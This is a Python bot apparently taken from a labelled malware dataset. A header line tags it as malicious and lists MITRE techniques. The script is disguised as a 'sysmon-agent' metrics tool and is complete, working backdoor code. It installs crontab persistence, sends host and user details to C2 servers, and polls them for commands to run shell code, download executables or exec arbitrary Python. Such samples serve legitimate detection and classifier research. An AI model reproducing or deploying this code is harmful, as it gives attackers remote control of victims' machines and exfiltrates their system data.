# label: malicious family=bot techniques=T1008,T1033,T1041,T1053.003,T1059.004,T1059.006,T1071.001,T1082,T1105,T1132.001,T1222.002,T1564.001,T1620 lines=18,48,57,62-63,72,78,96
#!/usr/bin/env python3
# -*- coding: utf-8 -*-
"""
sysmon-agent: collects host metrics and reports them upstream.
"""
import base64
import json
import os
import platform
import random
import socket
import subprocess
import sys
import time
import urllib.request

C2 = ["http://198.51.100.33:8080", "http://update-svc.bad-host.example"]
UA = "Mozilla/5.0 (X11; Linux x86_64)"
SLEEP = 45
ID_FILE = os.path.expanduser("~/.cache/.sysmon-id")


def ident():
    if os.path.exists(ID_FILE):
        return open(ID_FILE).read().strip()
    i = "%08x" % random.getrandbits(32)
    os.makedirs(os.path.dirname(ID_FILE), exist_ok=True)
    with open(ID_FILE, "w") as f:
        f.write(i)
    return i


def sysinfo():
    return {
        "host": socket.gethostname(),
        "os": platform.platform(),
        "user": os.getenv("USER"),
        "uid": os.getuid(),
        "cpus": os.cpu_count(),
    }


def post(path, obj):
    body = base64.b64encode(json.dumps(obj).encode())
    for base in C2:
        try:
            req = urllib.request.Request(base + path, data=body, headers={"User-Agent": UA})
            with urllib.request.urlopen(req, timeout=10) as r:
                return json.loads(base64.b64decode(r.read()))
        except Exception:
            continue
    return {}


def run_shell(cmd):
    p = subprocess.run(cmd, shell=True, capture_output=True, timeout=120)
    return (p.stdout + p.stderr).decode(errors="replace")


def download(url, dest):
    urllib.request.urlretrieve(url, dest)
    os.chmod(dest, 0o755)
    return dest


def persist():
    me = os.path.abspath(sys.argv[0])
    entry = "@reboot %s %s >/dev/null 2>&1\n" % (sys.executable, me)
    cur = subprocess.run(["crontab", "-l"], capture_output=True, text=True).stdout
    if me not in cur:
        subprocess.run(["crontab", "-"], input=cur + entry, text=True)


HANDLERS = {
    "sh": lambda a: run_shell(a),
    "dl": lambda a: download(*a.split(" ", 1)),
    "py": lambda a: exec(a) or "ok",
    "info": lambda a: json.dumps(sysinfo()),
}


def main():
    me = ident()
    persist()
    post("/register", {"id": me, "info": sysinfo()})
    while True:
        task = post("/poll", {"id": me})
        for t in task.get("tasks", []):
            fn = HANDLERS.get(t.get("type"))
            if fn:
                try:
                    out = fn(t.get("arg", ""))
                except Exception as e:
                    out = "error: %s" % e
                post("/result", {"id": me, "tid": t.get("id"), "out": out})
        time.sleep(SLEEP + random.randint(0, 15))


if __name__ == "__main__":
    main()
